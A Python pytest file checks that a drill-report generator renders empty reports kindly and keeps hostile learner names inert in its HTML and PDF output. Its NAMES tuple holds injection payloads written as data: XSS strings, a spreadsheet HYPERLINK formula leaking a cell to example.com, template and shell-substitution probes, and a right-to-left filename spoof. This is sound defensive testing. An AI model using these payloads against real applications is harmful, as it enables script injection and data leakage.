"""Reports with little to tell, and names that nobody has: kind, whole and inert, on the page and on paper."""

import re
from datetime import UTC, datetime
from itertools import product

import pypdf
import pytest
from reported import DAY, Tree

from rightdoor import drills
from rightdoor.reports import make, record, sample, warm
from rightdoor.reports.factory import pool, worker
from rightdoor.reports.words import WORDS
from rightdoor.text import LANGS, say

BEGUN = datetime(2026, 11, 7, 9, tzinfo=UTC)
# A roster lets none of these in; a report does not rely on that.
NAMES = (
    '<img src=x onerror="alert(1)">',
    '=HYPERLINK("http://example.com/?"&A1,"林")',
    "</script></title></style><script>alert(1)</script>",
    "长" * 200,
    "x" * 200,
    "🕵️‍♀️ 林",
    "‮txt.exe عبد الرحمن",
    "{{7*7}} ${7*7} `id` javascript:alert(1)",
)
LITTLE = {  # what is recorded, and the words that say so kindly
    "nothing": "nothing",
    "nobody-came": "nobody-came",
    "not-begun": "nobody-came",
    "no-seats": "nobody-came",
    "class-empty": "nobody-begun",
    "class-small": "too-few",
}
CELLS = {  # what is to be read and seen in each
    "nothing": ("nothing-why", "next", "notice-what"),
    "nobody-came": ("nobody-came-why", "seats", "absent", "notice-drill"),
    "not-begun": ("nobody-came-why", "moments-none", "absent"),
    "no-seats": ("nobody-came-why", "moments-none", "notice-drill"),
    "class-empty": ("law", "notice"),
    "class-small": ("all-begun", "law", "notice"),
}


def drilled(book):
    """Controls and Events of a drill with a seat for each of NAMES."""
    return sample.of_drill(book, drills.load("police-lookup", book), "en", BEGUN, len(NAMES))


def asked(book):
    """A Job for each of LITTLE in each language."""
    controls, _ = drilled(book)
    opened, seats = ([c for c in controls if c.kind == kind] for kind in ("opened", "seated"))
    three = [e for e in sample.of_class(book, "en", BEGUN, 12) if e.learner in sample.codes(4)[1:]]
    small = len({e.learner for e in three})
    drill, cohort = ({"drill": controls[0].drill, "names": {}}, {"members": small})
    kinds = {
        "nothing": ("trainee", {"learner": "nobody-yet"}, []),
        "nobody-came": ("drill", drill, [c for c in controls if c.kind != "joined"]),
        "not-begun": ("drill", drill, [*opened, *seats]),
        "no-seats": ("drill", drill, opened),
        "class-empty": ("cohort", cohort, []),
        "class-small": ("cohort", cohort, three),
    }
    assert set(kinds) == set(LITTLE) and small == 3
    for (name, (template, values, events)), lang in product(kinds.items(), LANGS):
        values = {**values, "lang": lang, "made_on": DAY.isoformat()}
        yield (name, lang), make.Job(template, values, record.written(events), f"{name}-{lang}")


@pytest.fixture(scope="module")
def little(book, tmp_path_factory):
    """`{(name, lang): Made}`."""
    out, engine = tmp_path_factory.mktemp("little"), warm.NAME if warm.AVAILABLE else None
    return {key: make.make(job, out, engine) for key, job in asked(book)}


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("name", LITTLE)
def test_little_is_told_kindly_and_nothing_is_missing(little, chromium, name, lang):
    page = Tree(little[name, lang].html.read_text("utf-8"))
    for key in (LITTLE[name], *CELLS[name]):
        assert say(WORDS[key].format(least=5), lang) in page.text
    assert not re.search(r"\bnan\b|\bNone\b|%", page.text)
    assert "0 / 0" not in page.text and not [a for n, a, _ in page.elements if n == "img"]
    ids = {a["id"] for _, a, _ in page.elements if "id" in a}
    assert {a["href"][1:] for _, a, _ in page.all("a")} <= ids
    shown = chromium.new_page(viewport={"width": 390, "height": 844})
    shown.goto(little[name, lang].html.as_uri())
    assert shown.evaluate("document.documentElement.scrollWidth") <= 390
    shown.close()


@pytest.fixture(scope="module")
def hostile(book, tmp_path_factory):
    """The report of a drill in which everybody has one of NAMES, and the reports of some of them."""
    controls, events = drilled(book)
    out, engine = tmp_path_factory.mktemp("hostile"), warm.NAME if warm.AVAILABLE else None
    common, codes = {"lang": "zh-Hans", "made_on": DAY.isoformat()}, sample.codes(len(NAMES))
    names = {"drill": controls[0].drill, "names": dict(zip(codes, NAMES, strict=True))}
    jobs = [make.Job("drill", common | names, record.written([*controls, *events]), "drill")]
    for code, name in zip(codes, NAMES, strict=True):
        if len(name) <= 80 and name.isprintable():
            mine = record.written(e for e in events if e.learner == code)
            jobs.append(make.Job("trainee", common | {"learner": code, "name": name}, mine, f"trainee-{code}"))
    assert len(jobs) == 5
    return {job.name: (make.make(job, out, engine).html, job) for job in jobs}


def test_names_that_are_no_names_stay_text_on_the_page(hostile, chromium):
    for html, job in hostile.values():
        page = Tree(html.read_text("utf-8"))
        names = job.parameters.get("names", {"": job.parameters.get("name")}).values()
        assert all(name in page.text for name in names)
        assert not page.all("script", "iframe") and all(a["src"].startswith("data:") for _, a, _ in page.all("img"))
        assert all(a["href"].startswith("#") for _, a, _ in page.all("a"))
        for width in (1280, 390):
            shown, said, requests = chromium.new_page(viewport={"width": width, "height": 844}), [], []
            shown.on("dialog", lambda dialog, said=said: said.append(dialog.message) or dialog.dismiss())
            shown.on("request", lambda request, requests=requests: requests.append(request.url))
            shown.goto(html.as_uri())
            assert shown.evaluate("document.documentElement.scrollWidth") <= width
            assert not said and [url for url in requests if not url.startswith("data:")] == [html.as_uri()]
            shown.close()


def test_and_on_paper(hostile, tmp_path):
    tasks = [worker.Print(str(html), str(tmp_path / f"{name}.pdf")) for name, (html, _) in hostile.items()]
    for done in pool.results(tasks, 1, 1):
        assert not done.cause, done.says
        reader = pypdf.PdfReader(done.files[0])
        root = reader.trailer["/Root"]
        live = {"/OpenAction", "/AA", "/AcroForm", "/JavaScript", "/EmbeddedFiles"}
        assert not live & {*root, *root.get("/Names", {})}
        for page in reader.pages:
            found = [a.get_object() for a in page.get("/Annots", [])]
            assert all("/URI" not in a.get("/A", {}) and "/JS" not in a.get("/A", {}) for a in found)
            assert len(page.extract_text().split()) > 5  # no empty page
